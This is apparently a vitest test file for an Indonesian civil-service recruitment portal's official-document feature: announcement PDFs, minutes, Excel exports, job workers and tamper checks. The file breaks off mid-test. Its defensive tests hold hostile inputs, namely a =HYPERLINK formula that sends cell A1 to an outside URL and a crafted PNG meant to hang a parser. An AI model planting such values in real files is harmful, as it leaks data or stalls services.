// Issue #20: the announcement and the minutes, made only after the final lock and only by the
// instansi's admin of the track; the PDF's text (pdftotext, Debian's poppler-utils) holds every
// applicant once with the right status and reasons; the public check finds the code, matches the
// issued file and refuses an altered one. Issue #31: every file of an issued document is kept and
// served as issued whatever happens afterwards, and a later announcement amends the one before.

import { execFileSync } from 'node:child_process';
import { createHash, randomUUID } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Worker } from 'node:worker_threads';
import { ALASAN_TMS, DASAR_HUKUM_BAKU } from '@portal/contract';
import ExcelJS from 'exceljs';
import { sql } from 'kysely';
import QRCode from 'qrcode';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { seedAccounts } from '../../db/seed/accounts.js';
import { seedApplicants } from '../../db/seed/applicants.js';
import { demoFile } from '../../db/seed/demo-files.js';
import { FolderBerkasStore } from '../../storage/folder-berkas-store.js';
import { openBerkasStore } from '../../storage/open-berkas-store.js';
import { createTestApp, createUser, TestClient, type TestContext } from '../../test/test-app.js';
import { bukaAntrean } from '../baca/antrean.js';
import { kerjakanPengumuman, PekerjaDokumen, pembuatDokumen } from './pekerja.js';
import { dibuat, terimaSanggah, umumkan } from './uji-dokumen.js';

const INSTANSI = 3;
let ctx: TestContext;
let client: TestClient;
let dir: string;
let admin: string;

const pengumuman = {
  nomor: '800/123/BKPSDM/2026',
  tanggal: '2026-11-24',
  dasarHukum: DASAR_HUKUM_BAKU,
  penandatangan: { jabatan: 'Ketua Panitia Seleksi', nama: 'Dr. Sri Rahayu, M.Si.', nip: '197501012000032001' },
};
const beritaAcara = {
  nomor: 'BA/77/2026',
  tanggal: '2026-11-24',
  penandatangan: [
    { jabatan: 'Ketua Panitia Seleksi', nama: 'Dr. Sri Rahayu, M.Si.', nip: '197501012000032001' },
    { jabatan: 'Sekretaris', nama: 'Budi Santoso, S.H.', nip: '198003152005011002' },
  ],
};

/** The PDF's text, page by page (layout kept, so a row's cells stay on one line). */
function pdfText(bytes: Buffer): { text: string; pages: number } {
  const file = path.join(process.env.KEEP_PDF ?? dir, `d-${Math.random()}.pdf`);
  writeFileSync(file, bytes);
  const text = execFileSync('pdftotext', ['-layout', file, '-']).toString();
  const pages = Number(/Pages:\s+(\d+)/.exec(execFileSync('pdfinfo', [file]).toString())?.[1]);
  return { text, pages };
}

beforeAll(async () => {
  dir = mkdtempSync(path.join(tmpdir(), 'dokumen-resmi-'));
  ctx = await createTestApp({
    filesDir: dir,
    publicUrl: 'https://portal.uji.go.id',
    logLevel: process.env.DBG ? 'error' : 'silent',
  });
  client = new TestClient(ctx.app);
  await seedAccounts(ctx.db);
  await seedApplicants(ctx.db, new FolderBerkasStore(dir), {
    seed: 20,
    withDocuments: false,
    blocks: [{ instansiId: INSTANSI, track: 'cpns', applicants: 180 }],
  });
  // Everyone decided and reviewed: a fifth TMS with one or two standard reasons.
  await sql`
    UPDATE pelamar SET
      status_verifikasi = CASE WHEN id % 5 = 0 THEN 'TMS' ELSE 'MS' END,
      alasan_tms = CASE WHEN id % 5 = 0 THEN
        CASE WHEN id % 2 = 0 THEN ARRAY['IPK', 'USIA'] ELSE ARRAY['DOKUMEN_TIDAK_TERBACA'] END END,
      verifikator_id = (SELECT id FROM app_user WHERE username = 'verifikator.cpns'),
      supervisor_id = (SELECT id FROM app_user WHERE username = 'supervisor.cpns'),
      status_supervisi = 'DISETUJUI', tgl_verifikasi = now(), tgl_supervisi = now()
    WHERE instansi_id = ${INSTANSI} AND track = 'cpns'`.execute(ctx.db);
  const user = await createUser(ctx.db, { roles: ['ROLE_ADMIN_CPNS'], flags: { isCpns: true }, instansiId: INSTANSI });
  admin = await client.loginToken(user.username, user.password);
}, 90_000);

afterAll(async () => {
  await ctx.close();
  rmSync(dir, { recursive: true, force: true });
});

/** The instansi's CPNS applicants as the documents list them. */
const applicantsOf = () =>
  ctx.db
    .selectFrom('pelamar')
    .select(['no_peserta', 'nik', 'status_verifikasi', 'alasan_tms'])
    .where('instansi_id', '=', INSTANSI)
    .where('track', '=', 'cpns')
    .execute();

const post = (url: string, payload: unknown, token = admin) =>
  client.request({ method: 'POST', url: `/api/cpns/admin/dokumen-resmi${url}`, token, payload: payload as object });

describe('official documents (issue #20)', () => {
  it('refuses before the final lock, saying why', async () => {
    const res = await post('/pengumuman', pengumuman);
    expect(res.statusCode).toBe(409);
    expect(res.json()).toMatchObject({ error: 'BELUM_FINAL', message: expect.stringMatching(/belum dikunci/) });
    const status = await client.request({ url: '/api/cpns/admin/dokumen-resmi', token: admin });
    expect(status.json()).toMatchObject({ terkunci: false, alasan: expect.stringMatching(/setelah final verifikasi/) });
  });

  it('is refused to every role but the instansi admin of the track', async () => {
    const monitoring = await createUser(ctx.db, {
      roles: ['ROLE_MONITORING_CPNS_INSTANSI'],
      flags: { isCpns: true },
      instansiId: INSTANSI,
    });
    const verifier = await createUser(ctx.db, {
      roles: ['ROLE_VERIFIKATOR_CPNS'],
      flags: { isCpns: true },
      instansiId: INSTANSI,
    });
    for (const user of [monitoring, verifier]) {
      const token = await client.loginToken(user.username, user.password);
      expect((await post('/pengumuman', pengumuman, token)).statusCode).toBe(403);
      expect((await client.request({ url: '/api/cpns/admin/dokumen-resmi', token })).statusCode).toBe(403);
    }
  });

  it('makes the announcement after the lock: every applicant once, with status and reasons; checkable', async () => {
    const kop = await client.request({
      method: 'PUT',
      url: '/api/cpns/admin/dokumen-resmi/kop',
      token: admin,
      // Issue #31: no document is issued without the seat it is signed at.
      payload: { alamat: 'Jalan H.R. Rasuna Said Kav. 6-7, Jakarta Selatan 12940', kota: 'Jakarta' },
    });
    expect(kop.statusCode, kop.body).toBe(200);
    const lockedBy = await ctx.db
      .selectFrom('app_user')
      .select('id')
      .where('username', '=', 'admin.cpns')
      .executeTakeFirstOrThrow();
    await ctx.db
      .insertInto('final_verifikasi')
      .values({ instansi_id: INSTANSI, track: 'cpns', dikunci_oleh: lockedBy.id })
      .execute();

    const dokumen = dibuat(await umumkan(ctx, client, admin, pengumuman));
    expect(dokumen).toMatchObject({
      jenis: 'PENGUMUMAN',
      nomor: pengumuman.nomor,
      kode: expect.stringMatching(/^[A-Z2-9]{10}$/),
    });

    const file = await client.request({ url: `/api/cpns/admin/dokumen-resmi/${dokumen.kode}`, token: admin });
    expect(file.statusCode).toBe(200);
    expect(file.headers['content-type']).toBe('application/pdf');
    const bytes = file.rawPayload;
    expect(createHash('sha256').update(bytes).digest('hex')).toBe(dokumen.sha256);
    const { text, pages } = pdfText(bytes);
    expect(pages).toBe(dokumen.halaman);
    expect(text).toContain(`Halaman ${pages} dari ${pages}`);
    expect(text).toContain('Jalan H.R. Rasuna Said');
    expect(text).toContain(`Kode dokumen ${dokumen.kode}`);
    expect(text).toContain(pengumuman.penandatangan.nama);
    expect(text).toContain('Ditetapkan di Jakarta');

    const applicants = await applicantsOf();
    expect(applicants.length).toBe(180);
    const label = new Map<string, string>(ALASAN_TMS.map((a) => [a.kode, a.label]));
    const lines = text.split('\n');
    for (const p of applicants) {
      const hits = lines.filter((line) => line.includes(p.no_peserta));
      expect(hits, p.no_peserta).toHaveLength(1);
      const line = hits[0] ?? '';
      expect(line).toContain(p.status_verifikasi === 'MS' ? 'Memenuhi Syarat' : 'Tidak Memenuhi');
      // NIK masked as monitoring roles see it: the birth date hidden.
      expect(line).toContain(`${p.nik.slice(0, 6)}******${p.nik.slice(12)}`);
      expect(line).not.toContain(p.nik);
      if (p.status_verifikasi === 'TMS') {
        // The first words of the first reason stand on the row's own line (the rest may wrap).
        const first = label.get(p.alasan_tms?.[0] ?? '') ?? '';
        expect(line).toContain(first.split(' ').slice(0, 2).join(' '));
      }
    }

    // The public check: what the code is, the same hash; the file itself matches, an altered one not.
    const cek = await client.request({ url: `/api/cek-dokumen/${dokumen.kode}` });
    expect(cek.statusCode).toBe(200);
    expect(cek.json()).toMatchObject({
      judul: 'Pengumuman Hasil Seleksi Administrasi',
      instansi: expect.any(String),
      track: 'CPNS',
      nomor: pengumuman.nomor,
      sha256: dokumen.sha256,
    });
    const same = await client.request({
      method: 'POST',
      url: `/api/cek-dokumen/${dokumen.kode}`,
      headers: { 'content-type': 'application/pdf' },
      payload: bytes,
    });
    expect(same.json()).toEqual({ cocok: true, sha256: dokumen.sha256 });
    const altered = Buffer.from(bytes);
    altered.writeUInt8(altered.readUInt8(altered.length - 20) ^ 1, altered.length - 20);
    const changed = await client.request({
      method: 'POST',
      url: `/api/cek-dokumen/${dokumen.kode}`,
      headers: { 'content-type': 'application/pdf' },
      payload: altered,
    });
    expect(changed.json()).toMatchObject({ cocok: false });
    expect((await client.request({ url: '/api/cek-dokumen/ZZZZZZZZZZ' })).statusCode).toBe(404);

    // Made once, audited, listed for the admin.
    const audit = await ctx.db
      .selectFrom('audit_event')
      .select(['action', 'details'])
      .where('entity_id', '=', dokumen.kode)
      .execute();
    expect(audit).toMatchObject([{ action: 'CETAK_PENGUMUMAN', details: { sha256: dokumen.sha256, pelamar: 180 } }]);
    const status = await client.request({ url: '/api/cpns/admin/dokumen-resmi', token: admin });
    expect(status.json()).toMatchObject({ terkunci: true, alasan: null, dokumen: [{ kode: dokumen.kode }] });
  }, 60_000);

  it('makes an announcement as a job: waiting, then made by a worker, followed under its id by any tab', async () => {
    const id = randomUUID();
    const progres = () => client.request({ url: `/api/cpns/admin/dokumen-resmi/progres/${id}`, token: admin });
    const status = async () => (await client.request({ url: '/api/cpns/admin/dokumen-resmi', token: admin })).json();
    expect((await progres()).statusCode).toBe(404);
    const asked = await post('/pengumuman', { ...pengumuman, nomor: '800/124/BKPSDM/2026', progresId: id });
    // Issue #33: the request answers at once; nothing is issued yet.
    expect(asked.statusCode, asked.body).toBe(202);
    expect(asked.json()).toEqual({ id, status: 'MENUNGGU', selesai: 0, total: 0, dokumen: null, pesan: null });
    expect((await progres()).json()).toMatchObject({ status: 'MENUNGGU', dokumen: null });
    expect((await status()).pembuatan).toMatchObject({ id, status: 'MENUNGGU' });
    // One at a time per instansi and track: another asked meanwhile is refused, saying why.
    const again = await post('/pengumuman', { ...pengumuman, nomor: '800/124/BKPSDM/2026' });
    expect(again.statusCode).toBe(409);
    expect(again.json()).toMatchObject({
      error: 'PENGUMUMAN_SEDANG_DIBUAT',
      message: expect.stringMatching(/sedang dibuat/),
    });

    // A worker takes it once: a second worker finds nothing to do.
    const pembuat = pembuatDokumen(ctx.db, openBerkasStore(ctx.config, ctx.db), ctx.config);
    const [pertama, kedua] = await Promise.all([kerjakanPengumuman(pembuat, id), kerjakanPengumuman(pembuat, id)]);
    expect([pertama, kedua].sort()).toEqual(['SELESAI', null].sort());
    // Both passes read all 180 applicants; done means all of it, and the document made.
    const done = (await progres()).json();
    expect(done).toMatchObject({ id, status: 'SELESAI', selesai: 360, total: 360, pesan: null });
    expect(done.dokumen).toMatchObject({ jenis: 'PENGUMUMAN', nomor: '800/124/BKPSDM/2026' });
    expect((await status()).pembuatan).toBeNull();
    expect(
      await ctx.db.selectFrom('dokumen_resmi').where('nomor', '=', '800/124/BKPSDM/2026').select('kode').execute(),
    ).toHaveLength(1);
    // The id is not part of what was issued.
    const isian = await ctx.db
      .selectFrom('dokumen_resmi')
      .select('isian')
      .where('kode', '=', done.dokumen.kode)
      .executeTakeFirstOrThrow();
    expect(isian.isian).not.toHaveProperty('progresId');
    // Another instansi's admin does not see it.
    const other = await createUser(ctx.db, { roles: ['ROLE_ADMIN_CPNS'], flags: { isCpns: true }, instansiId: 1 });
    const otherToken = await client.loginToken(other.username, other.password);
    const foreign = await client.request({ url: `/api/cpns/admin/dokumen-resmi/progres/${id}`, token: otherToken });
    expect(foreign.statusCode).toBe(404);
  });

  it('is taken from the job queue by a worker of any process, and followed to its end', async () => {
    const antrean = await bukaAntrean(ctx.sumberAntrean, { pollingIntervalSeconds: 0.5 });
    const pekerja = new PekerjaDokumen(
      antrean,
      pembuatDokumen(ctx.db, openBerkasStore(ctx.config, ctx.db), ctx.config),
      {
        jumlah: 1,
        log: { info: () => undefined, warn: () => undefined, error: () => undefined },
        relaiMs: 100,
        pollingIntervalSeconds: 0.5,
      },
    );
    await pekerja.mulai();
    try {
      const asked = await post('/pengumuman', { ...pengumuman, nomor: '800/129/BKPSDM/2026' });
      expect(asked.statusCode, asked.body).toBe(202);
      let job = asked.json();
      for (let i = 0; i < 300 && (job.status === 'MENUNGGU' || job.status === 'BERJALAN'); i++) {
        await new Promise((r) => setTimeout(r, 100));
        job = (await client.request({ url: `/api/cpns/admin/dokumen-resmi/progres/${job.id}`, token: admin })).json();
      }
      expect(job).toMatchObject({
        status: 'SELESAI',
        selesai: 360,
        total: 360,
        dokumen: { nomor: '800/129/BKPSDM/2026' },
      });
      const file = await client.request({ url: `/api/cpns/admin/dokumen-resmi/${job.dokumen.kode}`, token: admin });
      expect(createHash('sha256').update(file.rawPayload).digest('hex')).toBe(job.dokumen.sha256);
    } finally {
      await pekerja.berhenti();
      await antrean.tutup();
    }
  }, 60_000);

  it('cancels an announcement no worker has taken; one being made is not cut short', async () => {
    const asked = await post('/pengumuman', { ...pengumuman, nomor: '800/130/BKPSDM/2026' });
    expect(asked.statusCode, asked.body).toBe(202);
    const { id } = asked.json();
    const batal = (token = admin) =>
      client.request({ method: 'POST', url: `/api/cpns/admin/dokumen-resmi/progres/${id}/batal`, token });
    // Another instansi's admin does not find it.
    const other = await createUser(ctx.db, { roles: ['ROLE_ADMIN_CPNS'], flags: { isCpns: true }, instansiId: 1 });
    expect((await batal(await client.loginToken(other.username, other.password))).statusCode).toBe(404);
    const cancelled = await batal();
    expect(cancelled.statusCode, cancelled.body).toBe(200);
    expect(cancelled.json()).toMatchObject({
      id,
      status: 'GAGAL',
      pesan: expect.stringMatching(/dibatalkan sebelum dimulai/),
    });
    const audit = await ctx.db
      .selectFrom('audit_event')
      .select(['action', 'actor_id'])
      .where('entity_id', '=', id)
      .execute();
    expect(audit).toEqual([{ action: 'BATAL_PENGUMUMAN', actor_id: expect.any(Number) }]);
    // A worker handed it afterwards does nothing; the next one may be asked for at once.
    const pembuat = pembuatDokumen(ctx.db, openBerkasStore(ctx.config, ctx.db), ctx.config);
    expect(await kerjakanPengumuman(pembuat, id)).toBeNull();
    expect((await batal()).json()).toMatchObject({ error: 'PENGUMUMAN_TIDAK_DAPAT_DIBATALKAN' });
    const next = await post('/pengumuman', { ...pengumuman, nomor: '800/131/BKPSDM/2026' });
    expect(next.statusCode, next.body).toBe(202);
    await ctx.db
      .updateTable('dokumen_resmi_progres')
      .set({ status: 'BERJALAN' })
      .where('id', '=', next.json().id)
      .execute();
    const running = await client.request({
      method: 'POST',
      url: `/api/cpns/admin/dokumen-resmi/progres/${next.json().id}/batal`,
      token: admin,
    });
    expect(running.statusCode).toBe(409);
    expect(running.json().message).toMatch(/sudah mulai disusun/);
    await ctx.db
      .updateTable('dokumen_resmi_progres')
      .set({ status: 'GAGAL', pesan: 'uji' })
      .where('id', '=', next.json().id)
      .execute();
  });

  it('ends a job whose worker died as failed, saying so; the next one is made', async () => {
    const asked = await post('/pengumuman', { ...pengumuman, nomor: '800/126/BKPSDM/2026' });
    expect(asked.statusCode, asked.body).toBe(202);
    const { id } = asked.json();
    // Taken by a worker that then stopped beating (its process killed mid-way).
    await ctx.db
      .updateTable('dokumen_resmi_progres')
      .set({
        status: 'BERJALAN',
        diantre: true,
        dikerjakan_at: sql<Date>`now() - interval '10 minutes'`,
        diubah_at: sql<Date>`now() - interval '10 minutes'`,
      })
      .where('id', '=', id)
      .execute();
    const progres = await client.request({ url: `/api/cpns/admin/dokumen-resmi/progres/${id}`, token: admin });
    expect(progres.json()).toMatchObject({
      status: 'GAGAL',
      dokumen: null,
      pesan: expect.stringMatching(/terhenti karena proses pembuatnya berhenti.*buat pengumuman lagi/),
    });
    const next = dibuat(await umumkan(ctx, client, admin, { ...pengumuman, nomor: '800/127/BKPSDM/2026' }));
    expect(next.nomor).toBe('800/127/BKPSDM/2026');
  }, 60_000);

  it('lays the announcement out in a thread of its own; a thread that stops ends the job failed, issuing nothing', async () => {
    // Issue #33: the layout (pdfkit, the workbook) runs beside the thread that answers requests.
    const threads: Worker[] = [];
    const started = (worker: Worker) => threads.push(worker);
    process.on('worker', started);
    const pembuat = pembuatDokumen(ctx.db, openBerkasStore(ctx.config, ctx.db), ctx.config);
    try {
      const made = await post('/pengumuman', { ...pengumuman, nomor: '800/131/BKPSDM/2026' });
      expect(made.statusCode, made.body).toBe(202);
      expect(await kerjakanPengumuman(pembuat, made.json().id)).toBe('SELESAI');
      expect(threads).toHaveLength(1);

      // The thread ends as it asks for the first rows (killed, its memory limit reached).
      const asked = await post('/pengumuman', { ...pengumuman, nomor: '800/132/BKPSDM/2026' });
      expect(asked.statusCode, asked.body).toBe(202);
      const henti = (worker: Worker) => worker.once('message', () => void worker.terminate());
      process.on('worker', henti);
      try {
        expect(await kerjakanPengumuman(pembuat, asked.json().id)).toBe('GAGAL');
      } finally {
        process.off('worker', henti);
      }
      const progres = await client.request({
        url: `/api/cpns/admin/dokumen-resmi/progres/${asked.json().id}`,
        token: admin,
      });
      expect(progres.json()).toMatchObject({
        status: 'GAGAL',
        dokumen: null,
        pesan: expect.stringMatching(/^Pengumuman tidak dapat dibuat karena kesalahan pada server/),
      });
      expect(
        await ctx.db.selectFrom('dokumen_resmi').where('nomor', '=', '800/132/BKPSDM/2026').select('kode').execute(),
      ).toEqual([]);
      // Nor is any list of the public check left without its document.
      const yatim = await sql<{ n: number }>`
        SELECT count(*)::int AS n FROM dokumen_resmi_daftar l
        WHERE NOT EXISTS (SELECT 1 FROM dokumen_resmi d WHERE d.kode = l.kode)`.execute(ctx.db);
      expect(yatim.rows[0]?.n).toBe(0);
      // The next one is made.
      const next = await post('/pengumuman', { ...pengumuman, nomor: '800/133/BKPSDM/2026' });
      expect(await kerjakanPengumuman(pembuat, next.json().id)).toBe('SELESAI');
    } finally {
      process.off('worker', started);
    }
  }, 60_000);

  it("ends a job refused while it waited (the lock lifted) with the refusal's own words", async () => {
    const asked = await post('/pengumuman', { ...pengumuman, nomor: '800/128/BKPSDM/2026' });
    expect(asked.statusCode, asked.body).toBe(202);
    const lock = await ctx.db
      .deleteFrom('final_verifikasi')
      .where('instansi_id', '=', INSTANSI)
      .where('track', '=', 'cpns')
      .returningAll()
      .executeTakeFirstOrThrow();
    try {
      const pembuat = pembuatDokumen(ctx.db, openBerkasStore(ctx.config, ctx.db), ctx.config);
      expect(await kerjakanPengumuman(pembuat, asked.json().id)).toBe('GAGAL');
      const progres = await client.request({
        url: `/api/cpns/admin/dokumen-resmi/progres/${asked.json().id}`,
        token: admin,
      });
      expect(progres.json()).toMatchObject({ status: 'GAGAL', pesan: expect.stringMatching(/belum dikunci/) });
    } finally {
      await ctx.db.insertInto('final_verifikasi').values(lock).execute();
    }
  }, 60_000);

  it('gives the announcement made as Excel: the same applicants, masked NIK, status words, reasons', async () => {
    const status = await client.request({ url: '/api/cpns/admin/dokumen-resmi', token: admin });
    const dokumen = status.json().dokumen.find((d: { jenis: string }) => d.jenis === 'PENGUMUMAN');
    expect(dokumen, 'the announcement of the previous test').toBeDefined();
    const file = await client.request({ url: `/api/cpns/admin/dokumen-resmi/${dokumen.kode}/xlsx`, token: admin });
    expect(file.statusCode, file.body).toBe(200);
    expect(file.headers['content-disposition']).toContain(`pengumuman-cpns-${dokumen.kode}.xlsx`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(file.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0] as ExcelJS.Worksheet;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header).toEqual([
      'No.',
      'Jabatan',
      'Lokasi Formasi',
      'Jenis Formasi',
      'Nomor Peserta',
      'Nama',
      'NIK',
      'Status',
      'Keterangan',
    ]);
    const rows = new Map<string, unknown[]>();
    sheet.eachRow((row, n) => {
      if (n > 1) rows.set(String(row.getCell(5).value), (row.values as unknown[]).slice(1));
    });
    const applicants = await applicantsOf();
    expect(sheet.rowCount - 1).toBe(applicants.length);
    const label = new Map<string, string>(ALASAN_TMS.map((a) => [a.kode, a.label]));
    for (const p of applicants) {
      const row = rows.get(p.no_peserta);
      expect(row, p.no_peserta).toBeDefined();
      expect(row?.[6]).toBe(`${p.nik.slice(0, 6)}******${p.nik.slice(12)}`);
      expect(row?.[7]).toBe(p.status_verifikasi === 'MS' ? 'Memenuhi Syarat' : 'Tidak Memenuhi Syarat');
      expect(row?.[8] ?? '').toBe((p.alasan_tms ?? []).map((k) => label.get(k)).join('; '));
    }
    // Only the announcement has a table, and only for the instansi that made it.
    const other = await createUser(ctx.db, { roles: ['ROLE_ADMIN_CPNS'], flags: { isCpns: true }, instansiId: 1 });
    const otherToken = await client.loginToken(other.username, other.password);
    const foreign = await client.request({
      url: `/api/cpns/admin/dokumen-resmi/${dokumen.kode}/xlsx`,
      token: otherToken,
    });
    expect(foreign.statusCode).toBe(404);
  });

  it('makes the minutes: totals, reasons, verifiers and supervisors, the lock', async () => {
    const made = await post('/berita-acara', beritaAcara);
    expect(made.statusCode, made.body).toBe(201);
    const dokumen = made.json();
    const file = await client.request({ url: `/api/cpns/admin/dokumen-resmi/${dokumen.kode}`, token: admin });
    const { text, pages } = pdfText(file.rawPayload);
    expect(pages).toBeLessThanOrEqual(2);
    expect(text).toContain('BERITA ACARA');
    // Issue #31: counts written as letters write them, in figures and words (lines joined).
    expect(text.replace(/\s+/g, ' ')).toContain(
      'terhadap 180 (seratus delapan puluh) pelamar, dengan hasil 144 (seratus empat puluh empat) Memenuhi Syarat dan 36 (tiga puluh enam) Tidak Memenuhi Syarat',
    );
    expect(text).toContain('IPK di bawah batas minimal');
    expect(text).toContain('Budi Santoso, S.H.');
    const verifier = await ctx.db
      .selectFrom('app_user')
      .select('fullname')
      .where('username', '=', 'verifikator.cpns')
      .executeTakeFirstOrThrow();
    expect(text).toContain(verifier.fullname);
  });

  it('refuses a logo that is not a PNG or JPEG', async () => {
    const res = await client.request({
      method: 'PUT',
      url: '/api/cpns/admin/dokumen-resmi/kop',
      token: admin,
      payload: { alamat: 'x', logo: { mime: 'image/png', base64: Buffer.from('<svg/>').toString('base64') } },
    });
    expect(res.statusCode).toBe(400);
  });
});

describe('letterheads and tables that cannot hurt (issue #30)', () => {
  const PNG_MAGIC = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const putKop = (payload: object) =>
    client.request({ method: 'PUT', url: '/api/cpns/admin/dokumen-resmi/kop', token: admin, payload });
  const logo = (mime: string, bytes: Buffer | Uint8Array) => ({ mime, base64: Buffer.from(bytes).toString('base64') });

  it('refuses at save a logo that has the PNG or JPEG magic but does not decode; takes real ones', async () => {
    const real = await QRCode.toBuffer('kop', { type: 'png', width: 64 });
    const garbage = [
      logo('image/png', Buffer.concat([PNG_MAGIC, Buffer.from('sampah bukan gambar sama sekali')])),
      // A real PNG with its image data damaged (the CRCs fixed up would still not inflate).
      logo('image/png', Buffer.concat([real.subarray(0, real.length - 40), Buffer.alloc(40, 7)])),
      logo('image/jpeg', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from('sampah')])),
    ];
    for (const bad of garbage) {
      const res = await putKop({ alamat: 'Jalan Uji', logo: bad });
      expect(res.statusCode, res.body).toBe(400);
      expect(res.json()).toMatchObject({
        message: 'Logo tidak dapat dibaca sebagai gambar PNG atau JPEG.',
        details: [{ field: 'body.logo' }],
      });
    }
    const png = await putKop({ alamat: 'Jalan Uji', logo: logo('image/png', real) });
    expect(png.statusCode, png.body).toBe(200);
    const jpeg = await putKop({ alamat: 'Jalan Uji', logo: logo('image/jpeg', demoFile('PAS_FOTO').bytes) });
    expect(jpeg.statusCode, jpeg.body).toBe(200);
    expect(jpeg.json()).toEqual({ alamat: 'Jalan Uji', kota: 'Jakarta', adaLogo: true });
  });

  it('refuses an address with a lone surrogate or a control character', async () => {
    for (const alamat of ['Jalan \uD800 Uji', 'Jalan \uDC00', 'Jalan\u0007Uji']) {
      const res = await putKop({ alamat });
      expect(res.statusCode, res.body).toBe(400);
      expect(res.json().message).toMatch(/tidak dapat dicetak|tidak valid|tidak sah/);
    }
  });

  it('still makes the minutes, without the logo, when the stored logo and address are damaged', async () => {
    // Stored before logos were checked (or damaged in the store): written behind the API's back.
    const broken = [
      Buffer.concat([PNG_MAGIC, Buffer.from('sampah bukan gambar sama sekali')]),
      // A chunk length pdfkit's PNG reader would loop on forever.
      Buffer.concat([PNG_MAGIC, Buffer.from([0xff, 0xff, 0xff, 0xf4]), Buffer.from('abcd'), Buffer.alloc(16)]),
    ];
    for (const bytes of broken) {
      const sha256 = await new FolderBerkasStore(dir).put(bytes);
      await ctx.db
        .updateTable('instansi_kop')
        .set({ logo_sha256: sha256, logo_mime: 'image/png', alamat: 'Jalan Rusak \uD800 No. 1' })
        .where('instansi_id', '=', INSTANSI)
        .execute();
      const made = await post('/berita-acara', { ...beritaAcara, nomor: `BA/${sha256.slice(0, 6)}/2026` });
      expect(made.statusCode, made.body).toBe(201);
      const file = await client.request({ url: `/api/cpns/admin/dokumen-resmi/${made.json().kode}`, token: admin });
      const { text } = pdfText(file.rawPayload);
      expect(text).toContain('BERITA ACARA');
      expect(text).toContain('Jalan Rusak');
    }
  });

  it('writes the announcement table with formula-looking text as text, quoted', async () => {
    const target = await ctx.db
      .selectFrom('pelamar')
      .select(['id', 'no_peserta', 'nama', 'gelar_depan', 'gelar_belakang', 'formasi_id'])
      .where('instansi_id', '=', INSTANSI)
      .where('track', '=', 'cpns')
      .orderBy('id')
      .executeTakeFirstOrThrow();
    const formasi = await ctx.db
      .selectFrom('formasi')
      .select('jabatan_nama')
      .where('id', '=', target.formasi_id)
      .executeTakeFirstOrThrow();
    const hyperlink = '=HYPERLINK("https://contoh.id/?x="&A1,"Lihat")';
    await ctx.db
      .updateTable('pelamar')
      .set({ nama: hyperlink, gelar_depan: null, gelar_belakang: null })
      .where('id', '=', target.id)
      .execute();
    await ctx.db
      .updateTable('formasi')
      .set({ jabatan_nama: '@SUM(1+1)' })
      .where('id', '=', target.formasi_id)
      .execute();
    try {
      // The sheet is made at issue (issue #31): the text goes into a new announcement.
      const dokumen = dibuat(await umumkan(ctx, client, admin, { ...pengumuman, nomor: '800/125/BKPSDM/2026' }));
      const file = await client.request({ url: `/api/cpns/admin/dokumen-resmi/${dokumen.kode}/xlsx`, token: admin });
      expect(file.statusCode, file.body).toBe(200);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(file.rawPayload as unknown as ArrayBuffer);
      const sheet = workbook.worksheets[0] as ExcelJS.Worksheet;
      let found: ExcelJS.Row | undefined;
      sheet.eachRow((row) => {
        if (row.getCell(5).value === target.no_peserta) found = row;
      });
      expect(found).toBeDefined();
      const nama = found?.getCell(6);
      expect(nama?.type).toBe(ExcelJS.ValueType.String);
      expect(nama?.value).toBe(`'${hyperlink}`);
      expect(found?.getCell(2).value).toBe("'@SUM(1+1)");
      // The row number is still a number.
      expect(found?.getCell(1).type).toBe(ExcelJS.ValueType.Number);
      sheet.eachRow((row) => {
        row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula));
      });
    } finally {
      const { nama, gelar_depan, gelar_belakang } = target;
      await ctx.db
        .updateTable('pelamar')
        .set({ nama, gelar_depan, gelar_belakang })
        .where('id', '=', target.id)
        .execute();
      await ctx.db
        .updateTable('formasi')
        .set({ jabatan_nama: formasi.jabatan_nama })
        .where('id', '=', target.formasi_id)
        .execute();
    }
  });
});

describe('frozen once issued, changed by a new document (issue #31)', () => {
  const sha = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');
  const unduh = (kode: string, xlsx = false) =>
    client.request({ url: `/api/cpns/admin/dokumen-resmi/${kode}${xlsx ? '/xlsx' : ''}`, token: admin });
  const cek = (kode: string, bytes: Buffer, type: string) =>
    client.request({
      method: 'POST',
      url: `/api/cek-dokumen/${kode}`,
      headers: { 'content-type': type },
      payload: bytes,
    });
  const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
  /** Kept between the two tests: the announcement issued before the objection and its files. */
  const sebelum = { kode: '', nomor: '800/200/BKPSDM/2026', pdf: Buffer.alloc(0), xlsx: Buffer.alloc(0) };
  /** The applicant whose objection is accepted after the announcement (TMS there, MS after). */
  let noPeserta = '';

  it('serves the Excel copy as kept at issue, unchanged after an accepted objection; the check confirms it', async () => {
    const dokumen = dibuat(await umumkan(ctx, client, admin, { ...pengumuman, nomor: sebelum.nomor }));
    expect(dokumen.xlsx).toEqual({ sha256: expect.stringMatching(/^[0-9a-f]{64}$/), ukuran: expect.any(Number) });
    const pdf = await unduh(dokumen.kode);
    const xlsx = await unduh(dokumen.kode, true);
    expect(xlsx.statusCode, xlsx.body).toBe(200);
    expect(xlsx.headers['content-type']).toBe(XLSX);
    expect(xlsx.headers.etag).toBe(`"${dokumen.xlsx?.sha256}"`);
    expect(pdf.headers.etag).toBe(`"${dokumen.sha256}"`);
    expect(sha(xlsx.rawPayload)).toBe(dokumen.xlsx?.sha256);
    Object.assign(sebelum, { kode: dokumen.kode, pdf: pdf.rawPayload, xlsx: xlsx.rawPayload });

    noPeserta = await terimaSanggah(ctx, client);

    // Both files as issued, byte for byte: the applicant is still TMS in the sheet, as in the PDF.
    const pdfLagi = await unduh(dokumen.kode);
    const xlsxLagi = await unduh(dokumen.kode, true);
    expect(xlsxLagi.rawPayload.equals(sebelum.xlsx)).toBe(true);
    expect(pdfLagi.rawPayload.equals(sebelum.pdf)).toBe(true);
    const workbook = new ExcelJS.Workbook();
